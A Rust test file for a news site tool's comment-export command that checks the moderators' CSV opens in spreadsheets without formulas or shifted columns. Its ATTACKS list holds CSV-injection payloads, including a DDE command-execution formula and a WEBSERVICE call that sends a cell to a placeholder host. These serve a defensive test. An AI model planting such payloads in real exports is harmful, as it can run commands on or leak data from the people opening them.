//! The moderators' CSV as spreadsheets read it: split at commas, semicolons, tabs or all three
//! (LibreOffice's default), no cell is a formula, and with commas among the separators every
//! row keeps its cells in their columns.
//!
//! One test reads the file back here; one has LibreOffice Calc convert it (needs Debian's
//! `libreoffice-calc-nogui`; `.ci/run` installs it and runs this with `--ignored`).

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

/// Readers' texts that try to become formulas or move cells, each a comment's body.
const ATTACKS: [&str; 14] = [
    "نظر من;=1+1;=cmd|' /C calc'!A0",
    "سلام\n=2+2",
    "=HYPERLINK(\"http://x.example\",\"x\")",
    "متن\t=WEBSERVICE(\"http://x.example/?\"&A1)",
    "متن,+3+3",
    "گفت \"نه\";=4+4",
    "خط\r\n@SUM(A1:A2)",
    "فاصله; =6+6",
    "نقل: \"=7+7\"",
    "';=8+8",
    "-9+9",
    "a;\t=10+10",
    "پایان\";\"=11+11",
    "\u{200F}=12+12",
];

/// The separators a spreadsheet may split the file at, as LibreOffice's CSV filter names them.
const SEPARATORS: [(&str, &str); 4] = [
    ("comma", "44"),
    ("semicolon", "59"),
    ("tab", "9"),
    ("all three", "44/59/9"),
];

/// The column `akhbar comments apply` reads the decisions from.
const DECISION: usize = 11;

/// A site with one pending comment per attack (with an attack for a name too), and its export.
fn exported() -> (tempfile::TempDir, PathBuf, Vec<String>) {
    let site = support::fixture_copy("minimal");
    let folder = site.path().join("content/comments/1001");
    std::fs::create_dir_all(&folder).unwrap();
    let mut ids = Vec::new();
    for (i, body) in ATTACKS.iter().enumerate() {
        let id = format!("20260101T0000000{i:02}Z-a1b2c3d4e5{i:02x}");
        let yaml = format!(
            "id: {id}\nnews_id: 1001\nname: {}\nemail: a@example.org\nbody: {}\n\
             received_at: 2026-01-01T00:00:{i:02}Z\nstatus: pending\nip_hash: h{i}\n\
             reply: {}\n",
            json(&format!("مریم;=1+{i}")),
            json(body),
            json(&format!("پاسخ,\n=2+{i}")),
        );
        std::fs::write(folder.join(format!("{id}.yaml")), yaml).unwrap();
        ids.push(id);
    }
    let out = site.path().join("moderation");
    let output = support::akhbar(
        &["comments", "export", "--out", out.to_str().unwrap()],
        site.path(),
    );
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let csv = std::fs::read_dir(&out).unwrap().next().unwrap().unwrap();
    (site, csv.path(), ids)
}

/// `text` as a YAML double-quoted scalar (JSON's string syntax is YAML's).
fn json(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// Whether a spreadsheet runs `cell` as a formula, after trimming what it may trim: blanks,
/// the quotes of a cell it did not take as quoted, and invisible direction marks.
fn is_formula(cell: &str) -> bool {
    cell.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '\u{200F}'))
        .starts_with(['=', '+', '-', '@'])
}

/// The rows of `text` split at any of `separators` as RFC 4180 reads quotes: a cell that begins
/// with `"` runs to the next lone `"`, with `""` for a quote; anything after it up to the
/// separator is kept as it is.
fn split_with_quotes(text: &str, separators: &[char]) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut chars = text.chars().peekable();
    let mut fresh = true;
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        if fresh && c == '"' {
            while let Some(q) = chars.next() {
                match q {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        row.last_mut().unwrap().push('"');
                    }
                    '"' => break,
                    _ => row.last_mut().unwrap().push(q),
                }
            }
            fresh = false;
        } else if separators.contains(&c) {
            row.push(String::new());
            fresh = true;
        } else if c == '\n' || c == '\r' {
            if c == '\r' && chars.peek() == Some(&'\n') {
                chars.next();
            }
            rows.push(vec![String::new()]);
            fresh = true;
        } else {
            row.last_mut().unwrap().push(c);
            fresh = false;
        }
    }
    if rows
        .last()
        .is_some_and(|row| row.len() == 1 && row[0].is_empty())
    {
        rows.pop();
    }
    rows
}

/// The rows of `text` split at any of `separators` and at every line break, quotes or not: a
/// spreadsheet that has lost track of the quotes.
fn split_ignoring_quotes(text: &str, separators: &[char]) -> Vec<Vec<String>> {
    text.split(['\r', '\n'])
        .map(|line| line.split(separators).map(str::to_string).collect())
        .collect()
}

fn separator_chars(code: &str) -> Vec<char> {
    code.split('/')
        .map(|n| char::from(n.parse::<u8>().unwrap()))
        .collect()
}

/// Every row has the header's cells, in order: the ids under `id`, nothing under `decision`, and
/// the reply (never empty here) last.
fn assert_in_columns(rows: &[Vec<String>], ids: &[String], setting: &str) {
    assert_eq!(rows.len(), ids.len() + 1, "{setting}: {rows:#?}");
    assert_eq!(rows[0][0], "id", "{setting}");
    assert_eq!(rows[0][DECISION], "decision", "{setting}");
    for (row, id) in rows[1..].iter().zip(ids) {
        assert_eq!(row.len(), rows[0].len(), "{setting}: {row:?}");
        assert_eq!(&row[0], id, "{setting}");
        assert_eq!(row[DECISION], "", "{setting}: {row:?}");
        assert!(
            row.last().unwrap().starts_with("پاسخ,"),
            "{setting}: {row:?}"
        );
    }
}

#[test]
fn no_separator_makes_a_formula_or_moves_a_cell() {
    let (_site, csv, ids) = exported();
    let bytes = std::fs::read(&csv).unwrap();
    let text = std::str::from_utf8(&bytes)
        .unwrap()
        .trim_start_matches('\u{FEFF}');
    for (name, code) in SEPARATORS {
        let separators = separator_chars(code);
        let quoted = split_with_quotes(text, &separators);
        let unquoted = split_ignoring_quotes(text, &separators);
        for cell in quoted.iter().chain(&unquoted).flatten() {
            assert!(!is_formula(cell), "{name}: {cell:?}");
        }
        if separators.contains(&',') {
            assert_in_columns(&quoted, &ids, name);
        }
    }
}

/// `csv` converted by LibreOffice Calc with `separators` (and trimming spaces or not), as the
/// text of its flat ODF spreadsheet (an ODS's `content.xml` in one file).
fn libreoffice(csv: &Path, separators: &str, trim: bool) -> String {
    let work = tempfile::tempdir().unwrap();
    // Tokens: separators, quote ("), UTF-8, from line 1, no column formats, the default
    // language, quoted cells not forced to text, no special numbers, (two export tokens),
    // trim spaces, (an export token), evaluate formulas: the settings that let a formula in.
    let filter = format!("CSV:{separators},34,76,1,,0,false,false,false,false,{trim},-1,true");
    let output = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            work.path().join("profile").display()
        ))
        .args(["--headless", "--convert-to", "fods"])
        .arg(format!("--infilter={filter}"))
        .arg("--outdir")
        .arg(work.path())
        .arg(csv)
        .output()
        .unwrap_or_else(|e| panic!("soffice does not run ({e}); install libreoffice-calc-nogui"));
    let converted = work
        .path()
        .join(csv.with_extension("fods").file_name().unwrap());
    std::fs::read_to_string(&converted).unwrap_or_else(|e| {
        panic!(
            "no {} ({e}): {}",
            converted.display(),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

/// The cells of each row of the sheet in `content` (an ODF `office:spreadsheet`), as text;
/// empty cells LibreOffice repeats to the sheet's width are left off the end of a row.
fn sheet_rows(content: &str) -> Vec<Vec<String>> {
    let sheet = content.split("<table:table ").nth(1).expect("a sheet");
    sheet
        .split("<table:table-row")
        .skip(1)
        .map(|row| {
            let row = row.split("</table:table-row>").next().unwrap();
            let mut cells = Vec::new();
            for cell in row.split("<table:table-cell").skip(1) {
                let (tag, inner) = cell.split_once('>').unwrap();
                let repeated = attribute(tag, "table:number-columns-repeated")
                    .map_or(1, |n| n.parse().unwrap());
                let text = if tag.ends_with('/') {
                    String::new()
                } else {
                    paragraphs(inner.split("</table:table-cell>").next().unwrap())
                };
                cells.extend(std::iter::repeat_n(text, repeated));
            }
            while cells.last().is_some_and(String::is_empty) {
                cells.pop();
            }
            cells
        })
        .collect()
}

fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let start = tag.find(&format!("{name}=\""))? + name.len() + 2;
    tag[start..].split('"').next()
}

/// The text of a cell's `<text:p>` paragraphs, one a line, with their markup and entities undone.
fn paragraphs(inner: &str) -> String {
    let lines: Vec<String> = inner
        .split("<text:p")
        .skip(1)
        .map(|p| {
            let (tag, rest) = p.split_once('>').unwrap();
            if tag.ends_with('/') {
                return String::new();
            }
            let markup = rest.split("</text:p>").next().unwrap();
            let mut text = String::new();
            for piece in markup.split('<') {
                let (element, after) = piece.split_once('>').unwrap_or(("", piece));
                match element.split(' ').next().unwrap() {
                    "text:s/" | "text:s" => {
                        let count = attribute(element, "text:c").map_or(1, |n| n.parse().unwrap());
                        text.extend(std::iter::repeat_n(' ', count));
                    }
                    "text:tab/" | "text:tab" => text.push('\t'),
                    "text:line-break/" | "text:line-break" => text.push('\n'),
                    _ => {}
                }
                text.push_str(after);
            }
            text.replace("&quot;", "\"")
                .replace("&apos;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&")
        })
        .collect();
    lines.join("\n")
}

#[test]
#[ignore = "needs LibreOffice (libreoffice-calc-nogui), which .ci/run installs"]
fn libreoffice_calc_makes_no_formula_and_moves_no_cell() {
    let (_site, csv, ids) = exported();
    for (name, code) in SEPARATORS {
        for trim in [false, true] {
            let setting = format!("{name}, trimming spaces: {trim}");
            let content = libreoffice(&csv, code, trim);
            let formulas: Vec<&str> = content
                .split("table:formula=\"")
                .skip(1)
                .map(|rest| rest.split('"').next().unwrap())
                .collect();
            assert_eq!(formulas, Vec::<&str>::new(), "{setting}: formula cells");
            if separator_chars(code).contains(&',') {
                let mut rows = sheet_rows(&content);
                // Rows of empty cells a sheet may end with.
                while rows.last().is_some_and(Vec::is_empty) {
                    rows.pop();
                }
                assert_in_columns(&rows, &ids, &setting);
            }
        }
    }
}
